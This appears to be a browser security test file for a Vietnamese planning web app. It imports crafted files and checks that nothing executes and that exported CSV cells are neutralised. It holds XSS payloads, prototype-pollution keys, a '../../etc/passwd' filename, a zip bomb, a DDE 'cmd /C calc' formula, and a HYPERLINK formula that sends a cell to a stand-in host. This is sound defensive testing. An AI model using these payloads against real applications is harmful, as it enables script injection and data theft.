/**
 * Files made to do harm, opened as anyone would open them: nothing in them runs, reaches another origin, changes what objects are, or
 * leaves the app as a formula. The browser itself is the judge: a trip wire in the page, its policy, and its list of requests.
 */
import { readFile } from 'node:fs/promises';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { writePlanFile } from '#exchange/kh1/write.ts';
import { watchPage, type Watched } from '#tests/support/app-driver.ts';
import { DESKTOP, launchPersistent, makeProfile, removeProfile } from '#tests/support/chromium.ts';
import { rawZip } from '#tests/support/raw-zip.ts';
import { serveDist, type DistServer } from '#tests/support/server.ts';
import { smallPlan } from '#tests/support/small-plan.ts';

let server: DistServer;
let profile: string;
let context: BrowserContext;
let watched: Watched;
let page: Page;
/** What went off: the wire in the page, a dialog of the browser, a window opened. */
const wentOff: string[] = [];

const RUN = 'pwned()';
const IMAGE = `<img src=x onerror=${RUN}>`;
const FORMULAS = [
  `=HYPERLINK("https://xau.example/?"&A1;"Xem")`,
  `+cmd|' /C calc'!A0`,
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '＝1+1',
];

const TEXTS = [
  IMAGE,
  `<script>${RUN}</script>`,
  `"><svg onload=${RUN}>`,
  `</textarea></style><iframe srcdoc="<script>parent.${RUN}</script>">`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}}`,
  `javascript:${RUN}`,
  '__proto__',
  'constructor',
  `\u202Egnôđ 000.1\u202C`,
  'a'.repeat(20_000),
  ...FORMULAS,
];

beforeAll(async () => {
  server = await serveDist();
  profile = await makeProfile();
  context = await launchPersistent(profile, DESKTOP);
  watched = await watchPage(context, new URL(server.url).origin, { withWorker: true });
  ({ page } = watched);
  await context.exposeFunction('pwned', () => void wentOff.push('script ran'));
  page.on('dialog', (dialog) => {
    wentOff.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on('page', (opened) => wentOff.push(`window: ${opened.url()}`));
});

afterAll(async () => {
  await context.close();
  await server.stop();
  await removeProfile(profile);
});

async function expectUnharmed(): Promise<void> {
  const changed = await page.evaluate(() => ({
    prototype: Object.keys(Object.prototype),
    polluted: Reflect.get({}, 'polluted') as unknown,
    marks: document.querySelectorAll('#app :is(script, iframe, img[src="x"], svg[onload], [onerror])').length,
  }));
  expect(changed).toEqual({ prototype: [], polluted: undefined, marks: 0 });
  expect(wentOff).toEqual([]);
  expect(watched.trouble).toEqual([]);
}

const choose = (name: string, buffer: Buffer): Promise<void> =>
  page.locator('input[type="file"]').first().setInputFiles({ name, mimeType: 'text/html', buffer });

const table = (rows: readonly (readonly string[])[]): Buffer =>
  Buffer.from(
    `\uFEFF${rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(';')).join('\r\n')}`,
  );

const HEADINGS = ['STT', 'Chỉ tiêu', 'ĐVT', 'Kế hoạch năm 2024', 'Thực hiện năm 2024'];

const FOREIGN: readonly (readonly [name: string, bytes: Buffer])[] = [
  [
    `${IMAGE}.csv`,
    table([HEADINGS, ...TEXTS.map((text, n) => [String(n + 1), text, text.slice(0, 40), '12', '13'])]),
  ],
  [
    '../../etc/passwd.csv',
    table([
      ['__proto__', 'constructor', 'toString', IMAGE, 'hasOwnProperty'],
      ['1', '{"polluted":1}', '2', '3', '4'],
    ]),
  ],
  [
    'ma_dong.csv',
    Buffer.from(
      'ma_dong [KH1 __proto__];Cấp;Loại dòng;TT;Chỉ tiêu;ĐVT\r\n__proto__;1;chỉ tiêu;1;polluted;người\r\n#het;1;0;__proto__\r\n',
    ),
  ],
  [
    'trang.csv',
    Buffer.from(`<!doctype html><html><body onload="${RUN}">${IMAGE}<script>${RUN}</script></body></html>`),
  ],
  [
    'hinh.xlsx',
    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`),
  ],
  ['bom.xlsx', Buffer.from(rawZip([{ name: 'xl/workbook.xml', content: Buffer.alloc(30_000_000, 0x20) }]))],
  ['cot.csv', Buffer.from(`${'"'.repeat(200_001)}${';'.repeat(1_000_000)}`)],
  ['nul.csv', Buffer.concat([table([HEADINGS]), Buffer.alloc(5000), Buffer.from(IMAGE)])],
];

test.each(FOREIGN)('%s is shown, refused or asked about, and does nothing', async (name, bytes) => {
  await page.goto(`${server.url}#/incoming`);
  await page.reload();
  await page.getByRole('button', { name: 'Chọn tệp' }).waitFor();
  await choose(name, bytes);
  await page.getByRole('heading', { name: /^(?:Đã nhận ra|Không nhập được tệp này)$/ }).waitFor();
  await expectUnharmed();
});

test('a plan full of code is a plan full of text on every screen, and leaves as text', async () => {
  const plan = smallPlan(
    TEXTS.map((text, n) => ({
      name: text,
      unit: text.slice(0, 30),
      note: text,
      lead: text,
      label: text.slice(0, 10),
      targets: { '2024': n % 2 === 0 ? text.slice(0, 200) : String(n + 1) },
      figures: { '2024-H1': '7' },
    })),
  );
  const titled = {
    ...plan,
    head: { ...plan.head, title: IMAGE, issuingBody: `=${RUN}`, superiorBody: IMAGE },
  };
  const file = writePlanFile(titled, { convention: 'comma', withOriginals: false, mark: null });
  await page.goto(server.url);
  await page.reload();
  await choose(`${IMAGE}.csv`, Buffer.from(file));
  await page.locator('.ag-row').first().waitFor();
  await expectUnharmed();

  // The sheet of a row, the reasons behind a cell, the questions, the search, the history.
  await page.locator('.ag-row[row-index="0"] .ag-cell[col-id="name"]').click();
  await page.keyboard.press('Control+f');
  await page.keyboard.type('<script>');
  await expectUnharmed();
  await page.keyboard.press('Escape');
  await page.locator('.ag-row[row-index="0"] .ag-cell[col-id="attainment"]').click();
  await page.keyboard.press('Enter');
  await expectUnharmed();
  await page.keyboard.press('Escape');
  const id = /#\/plans\/([^?]+)/.exec(page.url())?.[1] ?? '';
  await page.goto(`${server.url}#/history?plan=${id}`);
  await page
    .getByText(/lập kế hoạch|nhập/)
    .first()
    .waitFor();
  await expectUnharmed();
  await page.goto(`${server.url}#/plans/${id}`);
  await page.locator('.ag-row').first().waitFor();

  await page.getByRole('button', { name: 'Xuất CSV' }).first().click();
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Tải tệp' }).click();
  const saved = await download;
  expect(saved.suggestedFilename()).toMatch(/^[\p{L}\p{N}._ -]+\.csv$/u);
  const text = await readFile((await saved.path()) ?? '', 'utf8');
  const cells = text.replace(/^\uFEFF/, '').split(/\r\n|;(?=(?:[^"]*"[^"]*")*[^"]*$)/);
  const live = cells
    .map((cell) => cell.replace(/^"/, ''))
    .filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-?[\d.,]+"?$/.test(cell));
  expect(live).toEqual([]);
  expect(cells.length).toBeGreaterThan(TEXTS.length * 4);
  await expectUnharmed();
});
